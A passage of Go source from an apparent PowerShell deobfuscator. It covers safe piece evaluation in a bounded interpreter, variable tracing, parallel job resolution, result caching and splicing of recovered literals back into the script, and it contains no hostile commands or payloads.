		delete(s.vars, name)
		return
	}
	s.vars[name] = varEntry{value: value, scope: append([]int(nil), ctx.scope...)}
	s.r.Stats.VariablesTraced++
}

// applyCompound folds a compound assignment over traced values.
func applyCompound(op string, old, inc any) (any, bool) {
	switch op {
	case "+=":
		if so, ok := old.(string); ok {
			return so + psinterp.ToString(inc), true
		}
		no, errO := toNum(old)
		ni, errI := toNum(inc)
		if errO && errI {
			return no + ni, true
		}
	case "-=", "*=", "/=", "%=":
		// Rare in obfuscation; give up tracing rather than risk error.
		return nil, false
	}
	return nil, false
}

func toNum(v any) (int64, bool) {
	n, err := psinterp.ToInt(v)
	return n, err == nil
}

// evaluateStatementValue evaluates an assignment RHS if safe, returning
// (value, true) on success.
func (s *astState) evaluateStatementValue(n psast.Node, ctx visitCtx) (any, bool) {
	if n == nil {
		return nil, false
	}
	// Fast path: the RHS is — or was already recovered to — a literal.
	// literalOfNode resolves that statically from the AST and the
	// replacement records wherever the answer is certain, so the common
	// `$x = <recovered literal>` case costs no probe parse.
	if v, ok := s.literalOfNode(n); ok {
		return v, true
	}
	if !s.isSafePiece(n, ctx) {
		return nil, false
	}
	out, err := s.evalNode(n, ctx)
	if err != nil {
		frontend.ClassifyEvalFailure(s.r.Stats, err)
		return nil, false
	}
	value := psinterp.Unwrap(out)
	if value == nil {
		return nil, false
	}
	return value, true
}

// tryRecover evaluates a recoverable node and replaces it in place when
// the result is a string or number (paper §III-B2). With more than one
// piece worker the evaluation is deferred: the node is captured as a
// pieceJob together with a snapshot of its visible bindings, and
// resolveAllJobs later evaluates independence groups of captured jobs
// concurrently. With one worker the classic inline path runs unchanged.
func (s *astState) tryRecover(n psast.Node, ctx visitCtx) {
	if s.workers > 1 {
		if !s.isSafePiece(n, ctx) {
			return
		}
		s.jobs = append(s.jobs, &pieceJob{n: n, ext: n.Extent(), binds: s.bindingsForNode(n, ctx)})
		s.pending++
		return
	}
	text := s.textOf(n)
	if len(text) > s.r.Opts.MaxPieceLen {
		return
	}
	if s.isTrivialPiece(n, text) {
		return
	}
	if !s.isSafePiece(n, ctx) {
		return
	}
	s.r.Stats.PiecesAttempted++
	out, err := s.evalNode(n, ctx)
	s.applyRecovery(n, text, out, err)
}

// applyRecovery turns one piece-evaluation outcome into a replacement
// record (or a classified failure). Shared by the inline path and the
// deferred-job paths so both produce byte-identical results.
func (s *astState) applyRecovery(n psast.Node, text string, out []any, err error) {
	if err != nil {
		frontend.ClassifyEvalFailure(s.r.Stats, err)
		return
	}
	value := psinterp.Unwrap(out)
	lit, ok := renderLiteral(value)
	if !ok || lit == text {
		return
	}
	if len(lit) > s.r.Opts.MaxPieceLen {
		return
	}
	s.setRepl(n, lit)
	s.r.Stats.PiecesRecovered++
}

// bindingsFor snapshots the traced variables visible from ctx — exactly
// the set evalText would preload. Captured jobs carry the snapshot so a
// later (possibly concurrent) evaluation sees the symbol table as it
// stood at the job's place in the sequential order.
func (s *astState) bindingsFor(ctx visitCtx) map[string]any {
	if ctx.inFunc || s.r.Opts.DisableVariableTracing || len(s.vars) == 0 {
		return nil
	}
	binds := make(map[string]any, len(s.vars))
	for name, e := range s.vars {
		if scopeVisible(e.scope, ctx.scope) {
			binds[name] = e.value
		}
	}
	return binds
}

// referencedVars statically collects the canonical names of every
// variable a pure-expression subtree can read. The second result is
// false when the subtree can reach variables dynamically — commands
// (Get-Variable, the safe cmdlets' script blocks), member invocations
// (a traced script block's .Invoke), nested script blocks or function
// definitions — in which case the caller must fall back to the full
// visible snapshot.
func referencedVars(n psast.Node) (map[string]bool, bool) {
	names := map[string]bool{}
	ok := true
	psast.Walk(n, func(x psast.Node) bool {
		if !ok {
			return false
		}
		switch v := x.(type) {
		case *psast.Command, *psast.InvokeMemberExpression,
			*psast.ScriptBlockExpression, *psast.FunctionDefinition:
			ok = false
			return false
		case *psast.VariableExpression:
			if name := canonicalVarName(v.Name); name != "" {
				names[name] = true
			}
		}
		return true
	}, nil)
	return names, ok
}

// bindingsForNode is bindingsFor restricted to the variables the piece
// can actually read. A 3-layer downloader traces hundreds of variables
// by the time its last concat piece evaluates; binding only the two or
// three the piece references cuts the snapshot copy and the per-eval
// SetVar loop from O(visible) to O(referenced). When the subtree may
// read variables dynamically it falls back to the full snapshot, so
// outcomes (including StrictVars failures) are identical either way.
func (s *astState) bindingsForNode(n psast.Node, ctx visitCtx) map[string]any {
	if ctx.inFunc || s.r.Opts.DisableVariableTracing || len(s.vars) == 0 {
		return nil
	}
	names, ok := referencedVars(n)
	if !ok {
		return s.bindingsFor(ctx)
	}
	binds := make(map[string]any, len(names))
	for name := range names {
		if e, found := s.vars[name]; found && scopeVisible(e.scope, ctx.scope) {
			binds[name] = e.value
		}
	}
	return binds
}

// resolveJob resolves one captured job inline (walk-goroutine path used
// by the flush sites). Jobs nested inside it must already be resolved.
func (s *astState) resolveJob(j *pieceJob) {
	if j.done {
		return
	}
	j.done = true
	s.pending--
	if s.r.Env.Violated() {
		return
	}
	text := s.textOf(j.n)
	if len(text) > s.r.Opts.MaxPieceLen {
		return
	}
	if s.isTrivialPiece(j.n, text) {
		return
	}
	s.r.Stats.PiecesAttempted++
	out, err := s.evalPiece(s.snippetFor(text), j.binds, s.view, s.pc.Eval)
	s.applyRecovery(j.n, text, out, err)
}

// flushIntersecting resolves, in capture order, every pending job whose
// extent intersects ext — plus pending jobs nested inside those — so a
// caller about to materialize or probe text within ext observes exactly
// the replacements the sequential evaluation order would have produced.
func (s *astState) flushIntersecting(ext psast.Extent) {
	if s.pending == 0 {
		return
	}
	flush := make([]bool, len(s.jobs))
	marked := false
	// Post-order capture means containers follow their contents, so a
	// reverse scan marks intersecting containers first and then any
	// still-pending jobs nested inside a marked container.
	for i := len(s.jobs) - 1; i >= 0; i-- {
		j := s.jobs[i]
		if j.done {
			continue
		}
		hit := j.ext.Start < ext.End && ext.Start < j.ext.End
		if !hit {
			for k := i + 1; k < len(s.jobs); k++ {
				if flush[k] && j.ext.Start >= s.jobs[k].ext.Start && j.ext.End <= s.jobs[k].ext.End {
					hit = true
					break
				}
			}
		}
		if hit {
			flush[i] = true
			marked = true
		}
	}
	if !marked {
		return
	}
	for i, f := range flush {
		if f {
			s.resolveJob(s.jobs[i])
		}
	}
}

// flushAllJobs drains every pending job in capture order. Called before
// nested-layer recursion and envelope output accounting so those see
// the same state sequential evaluation would have produced.
func (s *astState) flushAllJobs() {
	if s.pending == 0 {
		return
	}
	for _, j := range s.jobs {
		if !j.done {
			s.resolveJob(j)
		}
	}
}

// resolveAllJobs drains the captured jobs in independence rounds. A job
// is ready when no pending earlier-captured job lies inside its extent
// (post-order capture puts children before parents, so readiness means
// every nested recovery the job's text depends on is already applied).
// Ready jobs of one round have pairwise disjoint extents and frozen
// binding snapshots: their evaluations share no mutable state, so the
// round evaluates them concurrently on the piece-worker pool, then
// applies the results sequentially in capture order.
func (s *astState) resolveAllJobs() {
	for s.pending > 0 {
		var ready []*pieceJob
		for i, j := range s.jobs {
			if j.done {
				continue
			}
			blocked := false
			for k := 0; k < i; k++ {
				inner := s.jobs[k]
				if !inner.done && inner.ext.Start >= j.ext.Start && inner.ext.End <= j.ext.End {
					blocked = true
					break
				}
			}
			if !blocked {
				ready = append(ready, j)
			}
		}
		if len(ready) == 0 {
			return // unreachable: the earliest pending job is never blocked
		}
		// Stage 1 (sequential): materialize texts and run the cheap
		// screens. Contained jobs are resolved, so textOf is final.
		type pieceEval struct {
			j             *pieceJob
			text, snippet string
			out           []any
			err           error
		}
		var evals []*pieceEval
		for _, j := range ready {
			j.done = true
			s.pending--
			if s.r.Env.Violated() {
				continue
			}
			text := s.textOf(j.n)
			if len(text) > s.r.Opts.MaxPieceLen {
				continue
			}
			if s.isTrivialPiece(j.n, text) {
				continue
			}
			s.r.Stats.PiecesAttempted++
			evals = append(evals, &pieceEval{j: j, text: text, snippet: s.snippetFor(text)})
		}
		if len(evals) == 0 {
			continue
		}
		// Stage 2: evaluate. Each worker forks the run's cache views
		// (per-view counters are not concurrency-safe); the envelope and
		// the caches themselves are shared and synchronized.
		if s.workers > 1 && len(evals) > 1 {
			nw := s.workers
			if nw > len(evals) {
				nw = len(evals)
			}
			views := make([]*pipeline.View, nw)
			evviews := make([]*pipeline.EvalView, nw)
			idx := make(chan int)
			var wg sync.WaitGroup
			for w := 0; w < nw; w++ {
				views[w] = s.view.Fork()
				evviews[w] = s.pc.Eval.Fork()
				wg.Add(1)
				go func(w int) {
					defer wg.Done()
					for i := range idx {
						it := evals[i]
						it.out, it.err = s.evalPiece(it.snippet, it.j.binds, views[w], evviews[w])
					}
				}(w)
			}
			for i := range evals {
				idx <- i
			}
			close(idx)
			wg.Wait()
			for w := 0; w < nw; w++ {
				s.view.Hits += views[w].Hits
				s.view.Misses += views[w].Misses
				if s.pc.Eval != nil && evviews[w] != nil {
					s.pc.Eval.Hits += evviews[w].Hits
					s.pc.Eval.Misses += evviews[w].Misses
					s.pc.Eval.Skips += evviews[w].Skips
				}
			}
			s.r.Stats.PiecesParallel += len(evals)
		} else {
			for _, it := range evals {
				it.out, it.err = s.evalPiece(it.snippet, it.j.binds, s.view, s.pc.Eval)
			}
		}
		// Stage 3 (sequential): apply in capture order.
		for _, it := range evals {
			s.applyRecovery(it.j.n, it.text, it.out, it.err)
		}
	}
}

// buildPrelude memoizes the safe-function definition prelude. Sorted
// by function name so the snippet text — and therefore both the parse
// cache and the evaluation cache keys — is deterministic regardless of
// map iteration order.
func (s *astState) buildPrelude() {
	if len(s.safeFuncs) == 0 {
		s.prelude = ""
		return
	}
	names := make([]string, 0, len(s.safeFuncs))
	for name := range s.safeFuncs {
		names = append(names, name)
	}
	sort.Strings(names)
	var defs strings.Builder
	for _, name := range names {
		defs.WriteString(s.safeFuncs[name].Extent().Text(s.src))
		defs.WriteByte('\n')
	}
	s.prelude = defs.String()
}

// valueFP fingerprints a preloaded value for the evaluation-cache key.
// The rendering is injective per type tag for every type the symbol
// table can hold (isStringOrNumber gate), so equal fingerprints imply
// equal values: a fingerprint match can never replay a wrong result.
func valueFP(v any) (string, bool) {
	switch x := v.(type) {
	case string:
		return "s:" + x, true
	case int64:
		return "i:" + strconv.FormatInt(x, 10), true
	case int:
		return "I:" + strconv.Itoa(x), true
	case float64:
		return "f:" + strconv.FormatFloat(x, 'g', -1, 64), true
	case psinterp.Char:
		return "c:" + string(rune(x)), true
	case bool:
		if x {
			return "b:1", true
		}
		return "b:0", true
	case nil:
		return "n:", true
	}
	return "", false
}

// evalText runs a piece in a fresh bounded interpreter preloaded with
// the traced symbol table (and, when the extension is on, the pure
// decoder functions the script defines). The interpreter inherits the
// run's context (deadline / cancelation) and memory budget.
//
// Evaluation is memoized through the run's EvalView (paper Recovery
// phase, §III-B, made incremental): before interpreting, the cache is
// consulted under the key (snippet text, fingerprints of the visible
// bindings a previous pure run read). On a hit the memoized output is
// replayed — deep-copied, so splices can never alias cached state — and
// no interpreter is constructed at all. On a miss, Acquire coalesces
// with any concurrent evaluation of the same snippet (a near-clone
// wave across server requests costs one interpreter run) and this run
// either waits for that leader's published result or becomes the
// leader itself, holding a ticket it must resolve. If the interpreter's
// purity report confirms the run was deterministic and side-effect-free,
// the result is inserted keyed by the exact variables it read. Impure,
// failed or budget-violating runs are never cached — their tickets
// resolve as skips, releasing any coalesced waiters to retry under
// their own envelopes. The piece's parse still comes from the run's
// parse cache, so even uncacheable evaluations skip re-parsing.
func (s *astState) evalText(text string, ctx visitCtx) ([]any, error) {
	return s.evalPiece(s.snippetFor(text), s.bindingsFor(ctx), s.view, s.pc.Eval)
}

// evalNode is evalText with node-aware restricted bindings: the piece's
// subtree is statically scanned for the variables it can read, so the
// evaluation binds (and fingerprints) only those instead of the whole
// visible snapshot.
func (s *astState) evalNode(n psast.Node, ctx visitCtx) ([]any, error) {
	return s.evalPiece(s.snippetFor(s.textOf(n)), s.bindingsForNode(n, ctx), s.view, s.pc.Eval)
}

// snippetFor prepends the memoized safe-function prelude to a piece.
func (s *astState) snippetFor(text string) string {
	if s.prelude == "" {
		return text
	}
	return s.prelude + text
}

// evalPiece is the reentrant core of piece evaluation: everything it
// touches beyond its arguments is either immutable for the duration of
// the pass (options, blocklist, prelude) or internally synchronized
// (the envelope, both shared caches). Parallel piece workers call it
// with forked views; the walk goroutine calls it with the run's own.
// The interpreter itself is drawn from a pool and reset per piece, so
// a hostile corpus's thousands of evaluations recycle a handful of
// interpreter shells instead of allocating one each.
func (s *astState) evalPiece(snippet string, binds map[string]any, view *pipeline.View, eval *pipeline.EvalView) ([]any, error) {
	if err := s.r.Env.Check(); err != nil {
		return nil, err
	}
	values, ok, ticket := eval.Acquire(s.r.Env.Context(), snippet, func(name string) (string, bool) {
		v, ok := binds[name]
		if !ok {
			return "", false
		}
		return valueFP(v)
	})
	if ok {
		return values, nil
	}
	// Backstop: if the evaluation below panics or returns early, the
	// flight is released (idempotently) so coalesced waiters never hang
	// on — or inherit — this run's failure.
	defer ticket.Abort()
	opts := psinterp.Options{
		MaxSteps:      s.r.Opts.StepBudget,
		StrictVars:    true,
		Blocklist:     s.blocklistForEval(),
		MaxAllocBytes: s.r.Opts.MaxAllocBytes,
	}
	opts.Ctx = s.r.Env.Context()
	in := psinterp.Acquire(opts)
	defer psinterp.Release(in)
	for name, v := range binds {
		in.SetVar(name, v)
	}
	sb, err := viewParse(view, snippet)
	if err != nil {
		ticket.Skip()
		return nil, err
	}
	out, err := in.EvalScript(sb)
	if err != nil {
		// Failed runs are never cached: the purity report of an aborted
		// evaluation is incomplete by construction.
		ticket.Skip()
		return out, err
	}
	s.memoizeEval(ticket, binds, in, out)
	return out, nil
}

// memoizeEval inserts a completed evaluation into the cache when the
// purity report allows it, resolving the run's coalescing ticket and
// attributing the outcome (miss vs skip) to the given EvalView.
func (s *astState) memoizeEval(ticket *pipeline.EvalTicket, binds map[string]any, in *psinterp.Interp, out []any) {
	if !ticket.Enabled() {
		return
	}
	p := in.Purity()
	if !p.Pure {
		ticket.Skip()
		return
	}
	bindings := make([]pipeline.Binding, 0, len(p.ReadVars))
	for _, name := range p.ReadVars {
		v, ok := binds[name]
		if !ok {
			// A read variable we cannot fingerprint (should not happen:
			// reads are tracked only for preloaded names, which all come
			// from the binding snapshot). Refuse to cache rather than
			// risk it.
			ticket.Skip()
			return
		}
		fp, ok := valueFP(v)
		if !ok {
			ticket.Skip()
			return
		}
		bindings = append(bindings, pipeline.Binding{Name: name, FP: fp})
	}
	ticket.Insert(bindings, out)
}

// collectPureFunctions records user functions whose bodies are pure:
// only safe commands, and no free variables beyond their parameters.
// Calls to such functions are themselves recoverable (the FunctionTracing
// extension; the paper leaves this to future work, §V-C).
func (s *astState) collectPureFunctions(root psast.Node) {
	psast.Walk(root, func(n psast.Node) bool {
		fd, ok := n.(*psast.FunctionDefinition)
		if !ok {
			return true
		}
		if s.isPureFunction(fd) {
			s.safeFuncs[strings.ToLower(fd.Name)] = fd
		}
		return true
	}, nil)
}

// isPureFunction checks a function body for purity.
func (s *astState) isPureFunction(fd *psast.FunctionDefinition) bool {
	params := map[string]bool{}
	for _, p := range fd.Params {
		params[strings.ToLower(p.Name)] = true
	}
	if fd.Body != nil && fd.Body.Params != nil {
		for _, p := range fd.Body.Params.Parameters {
			params[strings.ToLower(p.Name)] = true
		}
	}
	pure := true
	var inspect func(node psast.Node, inScriptBlock bool)
	inspect = func(node psast.Node, inScriptBlock bool) {
		if node == nil || !pure {
			return
		}
		switch x := node.(type) {
		case *psast.Command:
			name, ok := s.commandLiteralName(x)
			if !ok || s.r.Blocklist[psinterp.NormalizeCommandName(name)] ||
				!safeCommands[psinterp.NormalizeCommandName(name)] {
				pure = false
				return
			}
		case *psast.VariableExpression:
			lower := strings.ToLower(x.Name)
			if params[lower] {
				break
			}
			switch lower {
			case "_", "args", "input":
				if !inScriptBlock && lower == "_" {
					pure = false
				}
			case "true", "false", "null":
			default:
				if !strings.HasPrefix(lower, "env:") {
					// Assignments create locals; reads of outer state
					// disqualify. A write-before-read analysis would be
					// finer; reject only names never assigned locally.
					if !assignedWithin(fd.Body, lower) {
						pure = false
					}
				}
			}
		case *psast.ScriptBlockExpression:
			if x.Body != nil {
				for _, c := range x.Body.Children() {
					inspect(c, true)
				}
			}
			return
		}
		for _, c := range node.Children() {
			inspect(c, inScriptBlock)
		}
	}
	if fd.Body != nil {
		inspect(fd.Body, false)
	}
	return pure
}

// assignedWithin reports whether a variable name is assigned anywhere in
// the subtree.
func assignedWithin(root psast.Node, lower string) bool {
	found := false
	psast.Walk(root, func(n psast.Node) bool {
		if a, ok := n.(*psast.Assignment); ok {
			if v, isVar := a.Left.(*psast.VariableExpression); isVar &&
				strings.ToLower(v.Name) == lower {
				found = true
				return false
			}
		}
		return !found
	}, nil)
	return found
}

func (s *astState) blocklistForEval() map[string]bool {
	return s.r.Blocklist
}

// isTrivialPiece reports pieces whose recovery cannot simplify anything:
// bare literals, lone variables, or pipelines around them.
func (s *astState) isTrivialPiece(n psast.Node, text string) bool {
	switch x := n.(type) {
	case *psast.Pipeline:
		if len(x.Elements) != 1 {
			return false
		}
		switch e := x.Elements[0].(type) {
		case *psast.CommandExpression:
			switch e.Expression.(type) {
			case *psast.StringConstant, *psast.ConstantExpression,
				*psast.VariableExpression:
				return true
			}
		case *psast.Command:
			// A lone command with a clean bare-word name is already
			// deobfuscated at the pipeline level; its obfuscated
			// arguments are recovered as child nodes. Replacing the
			// command with its output would erase intent (the mistake
			// the paper attributes to Li et al., §IV-C3).
			if _, ok := e.Name.(*psast.StringConstant); ok {
				return true
			}
		}
		return false
	}
	if _, isLit, certain := s.staticLiteral(n); certain {
		return isLit
	}
	if _, ok := s.literalValue(text); ok {
		return true
	}
	return false
}

// safeCommands are commands that recovery code may execute: pure
// transformations without observable side effects. Everything else
// (plus the blocklist) aborts recovery of the piece, mirroring the
// paper's blocklist design.
var safeCommands = map[string]bool{
	"foreach-object": true, "where-object": true, "sort-object": true,
	"select-object": true, "write-output": true, "out-string": true,
	"measure-object": true, "get-unique": true, "select-string": true,
	"split-path": true, "join-path": true, "get-variable": true,
	"get-command": true, "get-alias": true, "get-item": true,
	"new-object": true, "convertto-securestring": true,
	"convertfrom-securestring": true, "get-location": true,
	"get-culture": true, "get-host": true, "invoke-command": true,
}

// isSafePiece checks that every command in the subtree is a safe pure
// transformation and that every free variable is known, so executing
// the piece can neither cause side effects nor produce wrong results
// from missing context.
func (s *astState) isSafePiece(n psast.Node, ctx visitCtx) bool {
	safe := true
	var inspect func(node psast.Node, inScriptBlock bool)
	inspect = func(node psast.Node, inScriptBlock bool) {
		if node == nil || !safe {
			return
		}
		switch x := node.(type) {
		case *psast.Command:
			name, ok := s.commandLiteralName(x)
			if !ok {
				safe = false
				return
			}
			canonical := psinterp.NormalizeCommandName(name)
			if s.r.Blocklist[canonical] {
				safe = false
				return
			}
			if !safeCommands[canonical] {
				if _, pure := s.safeFuncs[canonical]; !pure {
					safe = false
					return
				}
			}
		case *psast.VariableExpression:
			if !s.variableKnown(x.Name, ctx, inScriptBlock) {
				safe = false
				return
			}
		case *psast.ScriptBlockExpression:
			if x.Body != nil {
				for _, c := range x.Body.Children() {
					inspect(c, true)
				}
			}
			return
		case *psast.Assignment:
			// Local assignments inside the piece are fine; they are
			// scoped to the throwaway interpreter.
		}
		for _, c := range node.Children() {
			inspect(c, inScriptBlock)
		}
	}
	inspect(n, false)
	return safe
}

// commandLiteralName resolves a command's name when it is statically
// known: a bare word, a quoted literal, or an expression already
// recovered to a string literal.
func (s *astState) commandLiteralName(cmd *psast.Command) (string, bool) {
	switch n := cmd.Name.(type) {
	case *psast.StringConstant:
		return n.Value, true
	default:
		if v, ok := s.literalOfNode(cmd.Name); ok {
			return psinterp.ToString(v), true
		}
		return "", false
	}
}

// variableKnown reports whether a variable read inside a piece will
// resolve during evaluation.
func (s *astState) variableKnown(name string, ctx visitCtx, inScriptBlock bool) bool {
	lower := strings.ToLower(name)
	if strings.HasPrefix(lower, "env:") {
		return true
	}
	switch lower {
	case "_", "args", "input":
		// Bound at runtime inside ForEach-Object-style blocks.
		return inScriptBlock
	case "true", "false", "null", "pshome", "home", "pwd", "shellid",
		"pid", "psversiontable", "executioncontext", "ofs", "error",
		"verbosepreference", "erroractionpreference", "host",
		"psculture", "psuiculture":
		return true
	}
	if s.r.Opts.DisableVariableTracing || ctx.inFunc {
		return false
	}
	key := canonicalVarName(name)
	if key == "" {
		return false
	}
	e, ok := s.vars[key]
	return ok && scopeVisible(e.scope, ctx.scope)
}

// textOf returns the node's current text with all recorded replacements
// spliced in (the paper's reconstruction by post-order splicing,
// §III-B5).
func (s *astState) textOf(n psast.Node) string {
	if r, ok := s.repl[n]; ok {
		return r
	}
	ext := n.Extent()
	// Fast path: no recorded replacement can fall inside this node, so
	// its text is exactly its source slice. This covers every node on
	// unmodified layers and all untouched subtrees on modified ones.
	if len(s.repl) == 0 || ext.End <= s.replMin || ext.Start >= s.replMax {
		return ext.Text(s.src)
	}
	var sb strings.Builder
	sb.Grow(ext.End - ext.Start)
	s.writeTextOf(&sb, n)
	return sb.String()
}

// writeTextOf appends n's reconstructed text to sb. Splitting the
// splice from textOf lets one Builder serve the whole recursion
// instead of allocating a fresh buffer (and copying it upward) at
// every tree level.
func (s *astState) writeTextOf(sb *strings.Builder, n psast.Node) {
	if r, ok := s.repl[n]; ok {
		sb.WriteString(r)
		return
	}
	ext := n.Extent()
	if len(s.repl) == 0 || ext.End <= s.replMin || ext.Start >= s.replMax {
		sb.WriteString(ext.Text(s.src))
		return
	}
	if _, isExpandable := n.(*psast.ExpandableString); isExpandable {
		sb.WriteString(ext.Text(s.src))
		return
	}
	children := n.Children()
	if len(children) == 0 {
		sb.WriteString(ext.Text(s.src))
		return
	}
	sorted := make([]psast.Node, 0, len(children))
	for _, c := range children {
		ce := c.Extent()
		if ce.Start >= ext.Start && ce.End <= ext.End {
			sorted = append(sorted, c)
		}
	}
	// Children arrive in source order almost always; a reflection-free
	// insertion sort costs nothing then and avoids sort.Slice's
	// per-call Swapper allocation.
	for i := 1; i < len(sorted); i++ {
		for j := i; j > 0 && sorted[j].Extent().Start < sorted[j-1].Extent().Start; j-- {
			sorted[j], sorted[j-1] = sorted[j-1], sorted[j]
		}
	}
	last := ext.Start
	for _, c := range sorted {
		ce := c.Extent()
		if ce.Start < last {
			continue // overlapping (defensive)
		}
		sb.WriteString(s.src[last:ce.Start])
		s.writeTextOf(sb, c)
		last = ce.End
	}
	sb.WriteString(s.src[last:ext.End])
}

// renderLiteral renders a recovered value as PowerShell source, only
// for string- and number-typed results (paper §III-B2).
func renderLiteral(v any) (string, bool) {
	switch x := v.(type) {
	case string:
		return QuoteSingle(x), true
	case psinterp.Char:
		return QuoteSingle(string(rune(x))), true
	case int64:
		return strconv.FormatInt(x, 10), true
	case int:
		return strconv.Itoa(x), true
	case float64:
		return psinterp.ToString(x), true
	}
	return "", false
}

func isStringOrNumber(v any) bool {
	switch v.(type) {
	case string, int64, int, float64, psinterp.Char:
		return true
	}
	return false
}

// QuoteSingle renders s as a single-quoted PowerShell string literal.
func QuoteSingle(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

// literalValue parses text through the run's cache and, when it is a
// single string/number literal (possibly parenthesized), returns its
// value. Literal detection runs on every candidate payload and command
// name, so the memoized parse is one of the cache's hottest entries.
func (s *astState) literalValue(text string) (any, bool) {
	trimmed := strings.TrimSpace(text)
	if trimmed == "" {
		return nil, false
	}
	root, err := viewParse(s.view, trimmed)
	if err != nil {
		return nil, false
	}
	return literalFromRoot(root)
}

// literalValue is the cache-free form, kept for callers without a run
// (tests, one-off probes).
func literalValue(text string) (any, bool) {
	trimmed := strings.TrimSpace(text)
	if trimmed == "" {
		return nil, false
	}
	root, err := psparser.Parse(trimmed)
	if err != nil {
		return nil, false
	}
	return literalFromRoot(root)
}

// literalFromRoot extracts the single string/number literal of a parsed
// script, if that is all the script contains.
func literalFromRoot(root *psast.ScriptBlock) (any, bool) {
	if root == nil || root.Body == nil || len(root.Body.Statements) != 1 {
		return nil, false
	}
	pipe, ok := root.Body.Statements[0].(*psast.Pipeline)
	if !ok || len(pipe.Elements) != 1 {
		return nil, false
	}
	ce, ok := pipe.Elements[0].(*psast.CommandExpression)
	if !ok {
		return nil, false
	}
	return constantOf(ce.Expression)
}

func constantOf(n psast.Node) (any, bool) {
	switch x := n.(type) {
	case *psast.StringConstant:
		if x.Bare {
			return nil, false
		}
		return x.Value, true
	case *psast.ConstantExpression:
		return x.Value, true
	case *psast.ParenExpression:
		if p, ok := x.Pipeline.(*psast.Pipeline); ok && len(p.Elements) == 1 {
			if ce, ok := p.Elements[0].(*psast.CommandExpression); ok {
				return constantOf(ce.Expression)
			}
		}
	}
	return nil, false
}

// literalOfNode is the node-typed form of literalValue: it resolves
// whether the node's current text (source plus recorded replacements)
// denotes a single string/number literal. Where the answer is provable
// from the AST and the replacement records it is returned without any
// parse; only genuinely ambiguous shapes fall back to the probe parse
// literalValue performs. Pending piece jobs intersecting the node are
// flushed first so the probe sees the sequential-order state.
func (s *astState) literalOfNode(n psast.Node) (any, bool) {
	s.flushIntersecting(n.Extent())
	if v, isLit, certain := s.staticLiteral(n); certain {
		return v, isLit
	}
	return s.literalValue(s.textOf(n))
}

// staticLiteral predicts literalValue(textOf(n)) without the probe
// parse. certain=false means the prediction would be a guess and the
// caller must fall back to the parse probe — it does NOT mean "not a
// literal". The prediction leans on two invariants: replacement texts
// are expression-shaped (quoted literals, number renderings, or
// parenthesized/subexpression-wrapped code), so they can never change
// the statement structure of an enclosing reparse; and the tokenizer
// treats signed numbers identically at statement start and in
// expression position, so constant nodes re-lex to themselves.
func (s *astState) staticLiteral(n psast.Node) (v any, isLit, certain bool) {
	if r, ok := s.repl[n]; ok {
		return staticReplLiteral(r)
	}
	switch x := n.(type) {
	case *psast.Pipeline:
		if len(x.Elements) == 1 {
			return s.staticLiteral(x.Elements[0])
		}
		return nil, false, true
	case *psast.CommandExpression:
		return s.staticLiteral(x.Expression)
	case *psast.ParenExpression:
		if p, ok := x.Pipeline.(*psast.Pipeline); ok && len(p.Elements) == 1 {
			if _, replaced := s.repl[p]; replaced {
				return nil, false, false
			}
			if ce, ok := p.Elements[0].(*psast.CommandExpression); ok {
				if _, replaced := s.repl[ce]; replaced {
					return nil, false, false
				}
				return s.staticLiteral(ce.Expression)
			}
		}
		return nil, false, true
	case *psast.StringConstant:
		if !x.Bare {
			return x.Value, true, true
		}
		// A bare word standalone usually reparses as a command name
		// (not a literal) — except number-shaped words, which re-lex as
		// constants. Those are rare; defer them to the exact probe.
		if _, err := psparser.ParseNumber(x.Value); err == nil {
			return nil, false, false
		}
		return nil, false, true
	case *psast.ConstantExpression:
		return x.Value, true, true
	}
	// Every other node kind (binary/unary/convert/invoke/subexpression/
	// variable/command/expandable string/...) reparses to the same
	// non-literal shape regardless of replacements inside it.
	return nil, false, true
}

// staticReplLiteral inverts renderLiteral for replacement texts: the
// recovery and inlining paths only ever write single-quoted strings or
// number renderings. Unwrap replacements (raw or wrapped payload code)
// and float renderings defer to the probe parse.
func staticReplLiteral(r string) (any, bool, bool) {
	if r == "" {
		return nil, false, true // textOf "" -> literalValue rejects empty
	}
	if r[0] == '\'' {
		if v, ok := unquoteSingle(r); ok {
			return v, true, true
		}
		return nil, false, false
	}
	if isIntegerText(r) {
		if v, err := psparser.ParseNumber(r); err == nil {
			return v, true, true
		}
		return nil, false, false
	}
	return nil, false, false
}

// isIntegerText reports a plain optionally-signed decimal rendering —
// the exact output shape of renderLiteral for int/int64 values.
func isIntegerText(r string) bool {
	i := 0
	if r[0] == '-' {
		i = 1
	}
	if i == len(r) {
		return false
	}
	for ; i < len(r); i++ {
		if r[i] < '0' || r[i] > '9' {
			return false
		}
	}
	return true
}

// unquoteSingle inverts QuoteSingle exactly: it accepts only a complete
// single-quoted literal whose inner quotes are all doubled, returning
// the decoded value the parser would produce for it.
func unquoteSingle(r string) (string, bool) {
	if len(r) < 2 || r[0] != '\'' || r[len(r)-1] != '\'' {
		return "", false
	}
	body := r[1 : len(r)-1]
	var b strings.Builder
	b.Grow(len(body))
	for i := 0; i < len(body); i++ {
		if body[i] == '\'' {
			if i+1 >= len(body) || body[i+1] != '\'' {
				return "", false
			}
			b.WriteByte('\'')
			i++
			continue
		}
		b.WriteByte(body[i])
	}
	return b.String(), true
}

// buildEdits flattens the replacement map into a batch of byte edits
// against the layer's source: exactly the outermost replaced nodes, in
// source order, under the same containment/overlap filtering writeTextOf
// applies — so splicing the edits into the source yields byte-for-byte
// the text the full rebuild would produce.
func (s *astState) buildEdits(root psast.Node) []pipeline.Edit {
	var edits []pipeline.Edit
	var walk func(n psast.Node)
	walk = func(n psast.Node) {
		if r, ok := s.repl[n]; ok {
			ext := n.Extent()
			edits = append(edits, pipeline.Edit{Start: ext.Start, End: ext.End, New: r})
			return
		}
		ext := n.Extent()
		if ext.End <= s.replMin || ext.Start >= s.replMax {
			return
		}
		if _, isExpandable := n.(*psast.ExpandableString); isExpandable {
			return
		}
		children := n.Children()
		if len(children) == 0 {
			return
		}
		sorted := make([]psast.Node, 0, len(children))
		for _, c := range children {
			ce := c.Extent()
			if ce.Start >= ext.Start && ce.End <= ext.End {
				sorted = append(sorted, c)
			}
		}
		for i := 1; i < len(sorted); i++ {
			for j := i; j > 0 && sorted[j].Extent().Start < sorted[j-1].Extent().Start; j-- {
				sorted[j], sorted[j-1] = sorted[j-1], sorted[j]
			}
		}
		last := ext.Start
		for _, c := range sorted {
			ce := c.Extent()
			if ce.Start < last {
				continue // overlapping (defensive; writeTextOf skips these too)
			}
			walk(c)
			last = ce.End
		}
	}
	walk(root)
	return edits
}
