package psfront

import (
	"regexp"
